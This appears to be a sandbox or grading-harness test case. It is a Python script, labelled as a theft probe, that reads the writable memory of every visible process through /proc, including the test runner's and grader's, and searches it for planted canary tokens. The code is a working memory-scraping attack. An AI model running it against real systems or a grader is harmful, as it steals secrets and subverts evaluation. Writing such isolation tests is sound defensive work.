# Tries: reads the memory of all processes that it sees, the test runner's and the grader's, for secrets.
# Kind: theft
# Stock: no
# Quick: yes

# %% last
import os
import re
import time

until, pattern = time.monotonic() + 5, re.compile(rb"CANARY-[0-9a-f]{24}")
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    if int(pid) == os.getpid():
        continue
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and last - first < 1 << 26 and time.monotonic() < until:
                memory.seek(first)
                print(pid, set(pattern.findall(memory.read(last - first))) or "nothing")
    except (OSError, ValueError, OverflowError) as error:
        print(pid, error)
